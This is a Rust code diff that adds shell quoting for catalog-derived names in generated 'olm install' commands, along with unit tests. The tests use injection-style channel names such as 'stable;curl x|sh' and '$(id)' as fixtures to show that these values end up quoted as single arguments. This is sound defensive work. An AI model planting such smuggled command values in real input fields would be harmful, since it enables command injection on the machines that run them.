@@ -51,6 +51,18 @@ fn value<T: serde::Serialize>(o: &T) -> Value {
     serde_json::to_value(o).unwrap_or(Value::Null)
 }
 
+/// `s` as one POSIX shell word: as it is when made only of characters no shell treats
+/// specially, else in single quotes (a quote inside written as `'\''`).
+pub fn shell_word(s: &str) -> String {
+    let plain = !s.is_empty()
+        && s.bytes()
+            .all(|b| b.is_ascii_alphanumeric() || b"._/:@=-".contains(&b));
+    match plain {
+        true => s.to_string(),
+        false => format!("'{}'", s.replace('\'', r"'\''")),
+    }
+}
+
 /// The snippets for `view` from catalog `catalog`.
 pub fn snippets(view: &PackageView, catalog: &CatalogRef) -> Snippets {
     let namespace = view.name.clone();
@@ -151,19 +163,20 @@ pub fn snippets(view: &PackageView, catalog: &CatalogRef) -> Snippets {
         )),
     }
     docs.push(value(&v1::cluster_extension(&spec)));
-    let channel = &view.default_channel;
+    // Names come from the catalog: every word of a command line is quoted for the shell, so
+    // a channel named `stable;curl x|sh` is copied as one argument, never as a command.
+    let (image, package) = (shell_word(image), shell_word(&view.name));
+    let (channel, namespace) = (shell_word(&view.default_channel), shell_word(&namespace));
     let cli = vec![
         format!(
-            "olm install --catalog {image} --package {} --channel {channel} -n {namespace}{}",
-            view.name,
+            "olm install --catalog {image} --package {package} --channel {channel} -n {namespace}{}",
             match all_namespaces {
                 true => " --install-mode all",
                 false => "",
             }
         ),
         format!(
-            "olm install --olm-v1 --catalog {image} --package {} --channel {channel} -n {namespace}",
-            view.name
+            "olm install --olm-v1 --catalog {image} --package {package} --channel {channel} -n {namespace}"
         ),
     ];
     Snippets {
@@ -171,5 +184,55 @@ pub fn snippets(view: &PackageView, catalog: &CatalogRef) -> Snippets {
         v1: yaml_stream(&docs),
         v1_notes,
         cli,
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::hub::view::ChannelView;
+
+    #[test]
+    fn shell_words_are_quoted_unless_plain() {
+        assert_eq!(
+            shell_word("quay.io/o/c@sha256:ab=-_"),
+            "quay.io/o/c@sha256:ab=-_"
+        );
+        assert_eq!(shell_word("stable;curl x|sh"), "'stable;curl x|sh'");
+        assert_eq!(shell_word("a'b"), r"'a'\''b'");
+        assert_eq!(shell_word("$(id)"), "'$(id)'");
+        assert_eq!(shell_word(""), "''");
+    }
+
+    /// A hostile channel name is copied as one quoted argument.
+    #[test]
+    fn command_lines_quote_catalog_names() {
+        let view = PackageView {
+            name: "etcd".into(),
+            default_channel: "stable;curl x|sh".into(),
+            channels: vec![ChannelView {
+                name: "stable;curl x|sh".into(),
+                head: "etcd.v1".into(),
+                head_version: "1.0.0".into(),
+                is_default: true,
+                deprecation: None,
+                entries: 1,
+            }],
+            install_modes: vec!["AllNamespaces".into()],
+            ..Default::default()
+        };
+        let catalog = CatalogRef {
+            name: "c".into(),
+            namespace: "olm".into(),
+            image: Some("oci:/tmp/my dir:v1".into()),
+        };
+        let s = snippets(&view, &catalog);
+        assert_eq!(
+            s.cli,
+            [
+                "olm install --catalog 'oci:/tmp/my dir:v1' --package etcd --channel 'stable;curl x|sh' -n etcd --install-mode all",
+                "olm install --olm-v1 --catalog 'oci:/tmp/my dir:v1' --package etcd --channel 'stable;curl x|sh' -n etcd",
+            ]
+        );
     }
 }
